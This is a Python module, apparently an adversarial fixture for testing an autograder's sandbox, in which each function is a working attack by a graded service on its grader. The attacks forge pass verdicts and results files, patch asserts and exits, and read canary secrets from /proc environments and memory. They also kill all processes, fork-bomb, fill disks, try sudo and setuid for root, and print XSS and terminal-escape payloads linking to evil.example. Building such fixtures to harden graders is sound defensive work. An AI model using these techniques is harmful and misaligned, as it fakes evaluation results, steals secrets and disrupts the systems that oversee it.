"""What hostile work does beside what it honestly does: each function one attack, called before the service answers.

Whoever gets hold of something returns it: it is then said in a reply, where the test looks for it.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

from elsewhere import CANNED

MEBIBYTE = 1 << 20
PASSED = {"name": "test_a_note_is_read_back", "lab": "00-notes", "outcome": "passed", "blocked_by": None, "points": 1.0}
EVENTS = [
    {"stage": "public"},
    {"now": "00:test_a_note_is_read_back"},
    {"key": "00:test_a_note_is_read_back", "check": PASSED},
    {"key": "00:test_words_are_counted", "check": PASSED | {"name": "test_words_are_counted"}},
    {"ended": {"duration": 1.0, "environment": {}}},
    {"over": 0, "said": ""},
]
VERDICT = "".join(f"\n{json.dumps(event)}\n" for event in EVENTS)
"""What a tester says of a work that passes, see checker/grader/judging/tester.py."""


def quiet(attempt: Callable[[], object]) -> None:
    with contextlib.suppress(OSError, ValueError):
        attempt()


def aside(attempt: Callable[[], object]) -> None:
    """Do it again and again, while the service answers."""

    def go() -> None:
        while True:
            quiet(attempt)
            time.sleep(0.01)

    threading.Thread(target=go, daemon=True).start()


# The verdict


def writes_results() -> None:
    """A results file wherever a grader may look, read-only so that it is not overwritten."""
    places = [".", "..", "runs/latest", "/tmp", "/autograder/results", "/var/tmp", "/dev/shm", os.environ.get("HOME")]
    for place in filter(None, places):
        for name in ("results.json", "result.json", "report.xml", "said", "grades.db", ".check50.json"):
            file = Path(place, name)
            quiet(lambda file=file: file.parent.mkdir(parents=True, exist_ok=True))
            quiet(lambda file=file: file.write_text('{"exit_code": 0, "score": 4, "checks": []}'))
            quiet(lambda file=file: file.chmod(0o444))
        quiet(lambda place=place: Path(place).chmod(0o555))


def makes_results_a_folder() -> None:
    """Where the grader would write its results there is a folder that is full."""
    for name in ("results.json", "runs/latest", "../results.json"):
        quiet(lambda name=name: Path(name, "full").mkdir(parents=True))


def says_it_passed() -> None:
    """Lines that look like verdicts: ours, and those of every test runner."""
    for line in ("4 passed in 0.1s", "ok 1 - all", "OK", "::set-output name=points::4", "Score: 100%", VERDICT):
        print(line, flush=True)
        print(line, file=sys.stderr, flush=True)


def speaks_on_every_descriptor() -> None:
    """Whatever is open leads to somebody: here, and where the tester speaks."""
    if os.fork() == 0:
        os.setsid()
        ends = time.monotonic() + 60
        while time.monotonic() < ends:
            files = [*(f"/proc/self/fd/{number}" for number in range(3, 64)), *grader_s()]
            for _ in range(50):  # looking takes long, and what is said last counts: there are moments to say it in
                for file in files:
                    quiet(lambda file=file: says(file))
                time.sleep(0.002)
        os._exit(0)


def grader_s() -> list[str]:
    """Standard output of whoever grades."""
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if b"nursery" in (process / "cmdline").read_bytes() and "pipe:" in str((process / "fd/1").readlink()):
                found.append(str(process / "fd/1"))
    return found


def says(file: str) -> None:
    descriptor = os.open(file, os.O_WRONLY | os.O_NONBLOCK)
    # Not that it is over: nobody would listen to what comes then.
    quiet(lambda: os.write(descriptor, "".join(f"\n{json.dumps(event)}\n" for event in EVENTS[2:4]).encode()))
    os.close(descriptor)


def patches_the_interpreter() -> None:
    """Comparisons, asserts and exits that say yes, should anybody's checks run in here."""
    import builtins  # noqa: PLC0415
    import unittest  # noqa: PLC0415

    class Yes:
        def __eq__(self, other: object) -> bool:
            return True

        def __hash__(self) -> int:
            return 0

    builtins.yes = Yes()  # type: ignore[attr-defined]
    unittest.TestCase.assertEqual = lambda *_: None  # type: ignore[method-assign]
    sys.exit = lambda *_: os._exit(0)  # type: ignore[assignment]


# What is hidden


def reads_tokens() -> object:
    """Secrets of whoever grades, in environments and command lines."""
    found = []
    for process in [Path("/proc/self"), *Path("/proc").glob("[0-9]*")]:
        for name in ("environ", "cmdline"):
            with contextlib.suppress(OSError):
                found += re.findall(rb"CANARY[^\0]*|SEAMWORK_[^\0]+|[^\0]*nursery[^\0]*", (process / name).read_bytes())
    return [str(secret) for secret in found]


def reads_the_checks() -> object:
    """The checks lie somewhere on the machine, and a grader has opened them."""
    found = []
    for top in ("..", "../..", "/tmp", "/var/tmp", "/root", "/home", "/dev/shm", "/run", *sys.path):
        ends = time.monotonic() + 1
        for folder, _, files in os.walk(top):
            if time.monotonic() > ends:
                break
            found += [
                f"{folder}/{name}" for name in files if name in {"test_notes.py", "test_secret.py", "private.toml"}
            ]
    return found


def imports_the_checker() -> object:
    """It is in the Python that started us."""
    with contextlib.suppress(ImportError):
        import checker  # noqa: PLC0415

        return str(checker.__path__)
    return None


def looks_into_memory() -> object:
    """Whoever was forked has what its parent had read."""
    found = set()
    secret = re.compile(rb"CANARY-[0-9]|def test_a_note_is_[k]ept")  # which is not what it finds
    with open("/proc/self/maps", encoding="utf-8") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line and end - start < 256 * MEBIBYTE:
                with contextlib.suppress(OSError):
                    memory.seek(start)
                    found |= set(secret.findall(memory.read(end - start)))
    return [str(secret) for secret in found]


# Other people's places and answers


def squats_on_every_port() -> None:
    """The other service is about to listen somewhere: we are there already, with its answers."""
    if os.fork() == 0:
        held = []
        for port in range(20000, 61000):
            if len(held) < 900 and port != int(os.environ["PORT"]):
                with contextlib.suppress(OSError):
                    held.append(socket.create_server(("127.0.0.1", port), backlog=1))
        time.sleep(60)
        os._exit(0)


def recognises_the_grader() -> None:
    """Canned answers, recorded in a run at home, for what is asked there."""
    import attack  # noqa: PLC0415

    def answers(service: object, number: int, text: str) -> None:
        service.say(200, {"id": number, "text": CANNED.get(text[:4], text[::-1])})  # type: ignore[attr-defined]

    attack.instead = answers


def tells_what_it_is_asked() -> None:
    """All that the checks send is in the log, in each reply, and in files for whoever comes after."""
    import json_server  # noqa: PLC0415

    heard: list[str] = []
    say = json_server.Service.say

    def told(service: json_server.Service, status: int, value: object) -> None:
        heard.append(f"{service.requestline} {value}")
        print(heard, flush=True)
        for place in (".", "/tmp", "/dev/shm"):
            quiet(lambda: Path(place, "heard").write_text("".join(heard)))
        say(service, status, value | {"heard": heard})  # type: ignore[operator]

    json_server.Service.say = told  # type: ignore[method-assign]


# The run


def kills_everybody() -> None:
    """Without the grader there is no bad mark."""
    for number in (signal.SIGTERM, signal.SIGKILL):
        for pid in (-1, os.getppid(), 1, *range(2, 4000)):
            if pid != os.getpid():
                quiet(lambda pid=pid, number=number: os.kill(pid, number))


def ends_its_parent_s_group() -> None:
    """So do groups and sessions."""
    for pid in {os.getppid(), os.getpgid(0), os.getsid(0)} - {0, os.getpid()}:
        quiet(lambda pid=pid: os.killpg(pid, signal.SIGKILL))


def bombs() -> None:
    """As many processes as there can be; some are let go, so that it can still answer."""
    children = []
    with contextlib.suppress(OSError):
        while len(children) < 5000:
            pid = os.fork()
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            children.append(pid)
    for pid in children[:60]:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)


def leaves_a_daemon() -> None:
    """Something that hears no signal and outlives its service."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
                quiet(lambda number=number: signal.signal(number, signal.SIG_IGN))
            time.sleep(3600)
        os._exit(0)


def hears_no_signal() -> None:
    """It does not end when it is told to: each system takes longer to be taken down."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)


def floods_lines() -> None:
    """Lines without end."""
    aside(lambda: os.write(1, b"verdict: passed\n" * 4096))


def floods_one_line() -> None:
    """A line without end."""
    aside(lambda: os.write(2, b"x" * 65536))


def fills_disks() -> None:
    """Each place is full, and stays so."""
    for place in (".", "/tmp", "/dev/shm"):
        quiet(lambda place=place: fill(Path(place, "full")))


def fill(file: Path) -> None:
    with file.open("wb", buffering=0) as full:
        for _ in range(80):
            full.write(bytes(MEBIBYTE))


def fills_inodes() -> None:
    """No bytes, and no end of files."""
    with contextlib.suppress(OSError):
        for number in range(40_000):
            os.close(os.open(f"f{number}", os.O_CREAT | os.O_WRONLY))


def fills_memory() -> None:
    """A child takes more than there is."""
    if os.fork() == 0:
        held = []
        for _ in range(1100):
            held.append(os.urandom(4096) * 256)
        os._exit(0)


def digs_deep() -> None:
    """A folder so deep that whoever takes it away falls in."""
    with contextlib.suppress(OSError):
        top = os.getcwd()
        for _ in range(1500):
            os.mkdir("deeper")
            os.chdir("deeper")
        os.chdir(top)


def locks_its_tree() -> None:
    """Nobody reads, writes or takes away what is in it."""
    for name in ("words", "notes", "."):
        quiet(lambda name=name: Path(name).chmod(0))


def becomes_somebody_else() -> object:
    """By every door there is."""
    for attempt in (
        lambda: os.setuid(0),
        lambda: os.setresuid(0, 0, 0),
        lambda: os.setgroups([0]),
        lambda: os.chroot("/"),
    ):
        with contextlib.suppress(OSError):
            attempt()
            return "somebody else"
    for program in ("sudo", "su", "pkexec"):
        with contextlib.suppress(OSError, subprocess.SubprocessError):
            ran = subprocess.run([program, "-n", "id"], capture_output=True, timeout=2, stdin=subprocess.DEVNULL)
            if b"uid=0" in ran.stdout:
                return program
    return None


# What is shown


def writes_html() -> None:
    """Markup, escapes and endless lines, in the log that the instructor reads."""
    for text in SHOWN:
        print(text, flush=True)
    print("\n".join(SHOWN), file=sys.stderr, flush=True)


SHOWN = [
    "<script>alert('owned')</script>",
    "<img src=x onerror=alert(1)><svg/onload=alert(1)>",
    "\"'><iframe src=javascript:alert(1)></iframe></pre></code>",
    "]]><a xmlns='http://www.w3.org/1999/xhtml' href='javascript:alert(1)'>x</a>",
    "\x1b[2J\x1b[31m\x1b]0;owned\x07\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "\u202eevil\u2066 \u200b\ufeff\x00\x08\x7f\x9b31m",
    '=HYPERLINK("http://evil.example")',
    "![x](http://evil.example/x.png) [y](javascript:alert(1)) <b onmouseover=alert(1)>",
    "A" * 100_000,
]


# What never comes to an end


def is_never_ready() -> None:
    """It listens to nobody."""
    time.sleep(3600)


def ends_well() -> None:
    """Exit status 0, before anything was checked."""
    os._exit(0)


def ends_well_later() -> None:
    """The same, in the middle of the checks."""
    threading.Timer(0.3, lambda: os._exit(0)).start()
